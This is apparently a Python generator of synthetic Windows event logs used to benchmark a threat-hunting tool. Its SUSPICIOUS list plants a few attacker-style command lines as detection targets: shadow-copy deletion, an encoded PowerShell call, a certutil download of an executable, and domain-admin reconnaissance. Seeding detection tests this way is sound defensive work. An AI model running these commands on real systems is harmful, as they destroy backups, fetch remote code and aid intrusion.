"""Made Windows events for bench/hunt.py: usual kinds in usual shares, fresh values.

Ours from end to end: no record of anybody is in it. The same seed makes the same file. Ordinary
events have a few matches in 100,000; log-offs are left out of them, since one rule matches each.
Dense ones, where any program starts any other, have about 8 in 100.
"""

import json
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from bench.made_programs import PARENTS, PROGRAMS, SHELL, TALKERS

SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SYSTEM = ("System", "Service Control Manager")
POWERSHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
APPLICATION = ("Application", "Application Error")

HOSTS = [f"PC-{number:04}" for number in range(400)] + [f"SRV-{number:02}" for number in range(20)]
USERS = [f"user{number:04}" for number in range(800)] + ["SYSTEM", "営業太郎", "総務花子"]
WORDS = "report budget meeting plan draft 見積 請求書 notes invoice figures".split()  # noqa: SIM905
SUSPICIOUS = [
    "whoami /priv",
    'net group "domain admins" /domain',
    "vssadmin delete shadows /all /quiet",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "certutil -urlcache -split -f http://a/b.exe",
]
Fields = dict[str, Any]


class Maker:
    """Makes events; each call of a maker draws fresh values."""

    def __init__(self, seed: int, *, dense: bool = False) -> None:
        self.dense = dense
        self.draw = random.Random(seed)  # noqa: S311 # made data, no secret
        self.record = 0
        self.now = datetime(2026, 11, 2, tzinfo=UTC)

    def hexa(self, size: int) -> str:
        """Return so many hexadecimal digits."""
        return f"{self.draw.getrandbits(size * 4):0{size}X}"

    def guid(self) -> str:
        """Return a fresh GUID."""
        text = self.hexa(32)
        return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"

    def program(self) -> str:
        """Return the path of a program, now and then one never seen."""
        if self.draw.random() < 0.15:
            return rf"C:\Users\{self.draw.choice(USERS)}\AppData\Local\app-{self.hexa(4)}\app.exe"
        return self.draw.choice(PROGRAMS)

    def parent(self, program: str) -> str:
        """Return the path of the program that started ``program``."""
        return self.program() if self.dense else PARENTS.get(program, SHELL)

    def talker(self) -> str:
        """Return the path of a program that opens connections."""
        return self.program() if self.dense else self.draw.choice(TALKERS)

    def command(self, program: str) -> str:
        """Return a command line; few are suspicious."""
        if self.draw.random() < (0.004 if self.dense else 0.0003):
            return self.draw.choice(SUSPICIOUS)
        if program.endswith("svchost.exe"):
            return f"{program} -k netsvcs -p -s {self.hexa(4)}"
        if self.draw.random() < 0.35:
            return f'"{program}"'
        return (
            f'"{program}" --type={self.draw.choice(WORDS)} --id={self.hexa(12)} /n {self.hexa(4)}'
        )

    def path(self) -> str:
        """Return the path of a document."""
        word = self.draw.choice(WORDS)
        kind = self.draw.choice(["docx", "xlsx", "tmp", "log", "json"])
        return rf"C:\Users\{self.draw.choice(USERS)}\Documents\{word}-{self.hexa(6)}.{kind}"

    def address(self) -> str:
        """Return an address."""
        return f"10.{self.draw.randrange(64)}.{self.draw.randrange(256)}.{self.draw.randrange(256)}"

    def logon(self) -> Fields:
        """Return who asked, as Security events say it."""
        return {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": self.draw.choice(HOSTS) + "$",
            "SubjectDomainName": "EXAMPLE",
            "SubjectLogonId": "0x" + self.hexa(6).lower(),
        }

    def process(self) -> Fields:
        """Return what every Sysmon event says of its process."""
        return {
            "RuleName": "-",
            "UtcTime": self.now.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": self.guid(),
            "ProcessId": self.draw.randrange(400, 20000),
            "Image": self.program(),
        }


def logged_on(make: Maker) -> Fields:
    """Return the data of an event: 4624."""
    return make.logon() | {
        "TargetUserSid": f"S-1-5-21-{make.draw.getrandbits(32)}-1104",
        "TargetUserName": make.draw.choice(USERS),
        "TargetDomainName": "EXAMPLE",
        "TargetLogonId": "0x" + make.hexa(7).lower(),
        "LogonType": make.draw.choice([2, 3, 3, 3, 5, 7, 10]),
        "LogonProcessName": "Kerberos",
        "AuthenticationPackageName": "Kerberos",
        "WorkstationName": make.draw.choice(HOSTS),
        "LogonGuid": make.guid(),
        "TransmittedServices": "-",
        "LmPackageName": "-",
        "KeyLength": 0,
        "ProcessId": "0x0",
        "ProcessName": "-",
        "IpAddress": make.address(),
        "IpPort": str(make.draw.randrange(65536)),
        "ImpersonationLevel": "%%1833",
        "ElevatedToken": "%%1843",
    }


def logged_off(make: Maker) -> Fields:
    """Return the data of an event: 4634."""
    return {
        "TargetUserSid": f"S-1-5-21-{make.draw.getrandbits(32)}-1104",
        "TargetUserName": make.draw.choice(USERS),
        "TargetDomainName": "EXAMPLE",
        "TargetLogonId": "0x" + make.hexa(7).lower(),
        "LogonType": 3,
    }


def failed(make: Maker) -> Fields:
    """Return the data of an event: 4625."""
    return logged_on(make) | {
        "Status": "0xc000006d",
        "SubStatus": "0xc000006a",
        "FailureReason": "%%2313",
    }


def privileges(make: Maker) -> Fields:
    """Return the data of an event: 4672."""
    return make.logon() | {"PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege"}


def started(make: Maker) -> Fields:
    """Return the data of an event: 4688."""
    program = make.program()
    return make.logon() | {
        "NewProcessId": "0x" + make.hexa(4).lower(),
        "NewProcessName": program,
        "TokenElevationType": "%%1938",
        "ProcessId": "0x" + make.hexa(4).lower(),
        "CommandLine": make.command(program),
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": make.parent(program),
        "MandatoryLabel": "S-1-16-8192",
    }


def allowed(make: Maker) -> Fields:
    """Return the data of an event: 5156."""
    return {
        "ProcessID": str(make.draw.randrange(20000)),
        "Application": r"\device\harddiskvolume2" + make.talker()[2:].lower(),
        "Direction": "%%14593",
        "SourceAddress": make.address(),
        "SourcePort": str(make.draw.randrange(65536)),
        "DestAddress": make.address(),
        "DestPort": "443",
        "Protocol": 6,
        "FilterRTID": str(make.draw.getrandbits(20)),
        "LayerName": "%%14611",
        "LayerRTID": 48,
    }


def accessed(make: Maker) -> Fields:
    """Return the data of an event: 4663."""
    return make.logon() | {
        "ObjectServer": "Security",
        "ObjectType": "File",
        "ObjectName": make.path(),
        "HandleId": "0x" + make.hexa(4).lower(),
        "AccessList": "%%4416\n\t\t\t\t",
        "AccessMask": "0x1",
        "ProcessId": "0x" + make.hexa(4).lower(),
        "ProcessName": make.program(),
        "ResourceAttributes": "S:AI",
    }


def created(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 1."""
    fields = make.process()
    return fields | {
        "FileVersion": "10.0.26100.1",
        "Description": "-",
        "Product": "Microsoft® Windows®",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "-",
        "CommandLine": make.command(fields["Image"]),
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": "EXAMPLE\\" + make.draw.choice(USERS),
        "LogonGuid": make.guid(),
        "LogonId": "0x" + make.hexa(6).lower(),
        "TerminalSessionId": 1,
        "IntegrityLevel": "Medium",
        "Hashes": f"SHA256={make.hexa(64)},IMPHASH={make.hexa(32)}",
        "ParentProcessGuid": make.guid(),
        "ParentProcessId": make.draw.randrange(20000),
        "ParentImage": make.parent(fields["Image"]),
        "ParentCommandLine": make.command("explorer"),
        "ParentUser": "EXAMPLE\\" + make.draw.choice(USERS),
    }


def connected(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 3."""
    return make.process() | {
        "Image": make.talker(),
        "User": "EXAMPLE\\" + make.draw.choice(USERS),
        "Protocol": "tcp",
        "Initiated": True,
        "SourceIsIpv6": False,
        "SourceIp": make.address(),
        "SourceHostname": make.draw.choice(HOSTS),
        "SourcePort": make.draw.randrange(65536),
        "SourcePortName": "-",
        "DestinationIsIpv6": False,
        "DestinationIp": make.address(),
        "DestinationHostname": f"host{make.hexa(3)}.example.com",
        "DestinationPort": make.draw.choice([443, 443, 80, 8443]),
        "DestinationPortName": "https",
    }


def loaded(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 7."""
    return make.process() | {
        "ImageLoaded": rf"C:\Windows\System32\lib{make.hexa(3)}.dll",
        "FileVersion": "10.0.1",
        "Description": "-",
        "Product": "-",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "-",
        "Hashes": f"SHA256={make.hexa(64)}",
        "Signed": "true",
        "Signature": "Microsoft Windows",
        "SignatureStatus": "Valid",
        "User": "EXAMPLE\\" + make.draw.choice(USERS),
    }


def opened(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 10."""
    return make.process() | {
        "SourceImage": make.program(),
        "TargetImage": make.program(),
        "GrantedAccess": "0x1000",
        "CallTrace": rf"C:\Windows\SYSTEM32\ntdll.dll+{make.hexa(5)}|UNKNOWN({make.hexa(16)})",
        "SourceProcessGUID": make.guid(),
        "TargetProcessGUID": make.guid(),
    }


def written(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 11."""
    return make.process() | {
        "TargetFilename": make.path(),
        "CreationUtcTime": make.now.isoformat(),
        "User": "-",
    }


def registered(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 13."""
    return make.process() | {
        "EventType": "SetValue",
        "Details": f"DWORD (0x{make.hexa(8)})",
        "User": "-",
        "TargetObject": rf"HKLM\SOFTWARE\Microsoft\App{make.hexa(4)}\{make.draw.choice(WORDS)}",
    }


def resolved(make: Maker) -> Fields:
    """Return the data of an event: Sysmon 22."""
    return make.process() | {
        "QueryName": f"{make.hexa(6).lower()}.example.com",
        "QueryStatus": "0",
        "QueryResults": f"::ffff:{make.address()};",
        "User": "-",
    }


def scripted(make: Maker) -> Fields:
    """Return the data of an event: PowerShell 4104."""
    lines = [
        f"$value{n} = Get-Content '{make.path()}' | Select-String {make.hexa(8)}" for n in range(12)
    ]
    return {
        "MessageNumber": 1,
        "MessageTotal": 1,
        "ScriptBlockText": "\n".join(lines),
        "ScriptBlockId": make.guid(),
        "Path": "",
    }


def serviced(make: Maker) -> Fields:
    """Return the data of an event: Service Control Manager 7036."""
    return {"param1": f"Service {make.hexa(3)}", "param2": "running", "Binary": make.hexa(24)}


KINDS: list[tuple[int, tuple[str, str], int, Callable[[Maker], Fields]]] = [
    (12, SECURITY, 4624, logged_on),
    (1, SECURITY, 4634, logged_off),
    (14, SECURITY, 4672, privileges),
    (14, SECURITY, 4688, started),
    (12, SECURITY, 5156, allowed),
    (6, SECURITY, 4663, accessed),
    (2, SECURITY, 4625, failed),
    (6, SYSMON, 1, created),
    (8, SYSMON, 3, connected),
    (5, SYSMON, 7, loaded),
    (3, SYSMON, 10, opened),
    (5, SYSMON, 11, written),
    (5, SYSMON, 13, registered),
    (3, SYSMON, 22, resolved),
    (1, POWERSHELL, 4104, scripted),
    (2, SYSTEM, 7036, serviced),
    (1, APPLICATION, 1000, serviced),
]


def made_events(count: int, seed: int = 4, *, dense: bool = False) -> Iterator[dict[str, Any]]:
    """Yield so many events in the form of the EVTX readers."""
    make = Maker(seed, dense=dense)
    kinds = [kind for kind in KINDS if dense or kind[3] is not logged_off]
    weights = [share for share, *_ in kinds]
    for _, (channel, provider), event_id, fields in make.draw.choices(kinds, weights, k=count):
        make.record += 1
        make.now += timedelta(milliseconds=make.draw.randrange(1, 90))
        data = fields(make)
        yield {
            "Event": {
                "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                "System": {
                    "Provider": {
                        "#attributes": {
                            "Name": provider,
                            "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D",
                        }
                    },
                    "EventID": event_id,
                    "Version": 2,
                    "Level": 0,
                    "Task": 12544,
                    "Opcode": 0,
                    "Keywords": "0x8020000000000000",
                    "TimeCreated": {
                        "#attributes": {"SystemTime": make.now.isoformat().replace("+00:00", "Z")}
                    },
                    "EventRecordID": make.record,
                    "Correlation": None,
                    "Execution": {
                        "#attributes": {"ProcessID": 612, "ThreadID": make.draw.randrange(9000)}
                    },
                    "Channel": channel,
                    "Computer": make.draw.choice(HOSTS),
                    "Security": None,
                },
                "EventData": data,
            }
        }


def write_lines(path: Path, count: int, seed: int = 4, *, dense: bool = False) -> None:
    """Write so many events as JSON lines."""
    with path.open("w", encoding="utf-8") as file:
        for event in made_events(count, seed, dense=dense):
            file.write(json.dumps(event, ensure_ascii=False, separators=(",", ":")) + "\n")
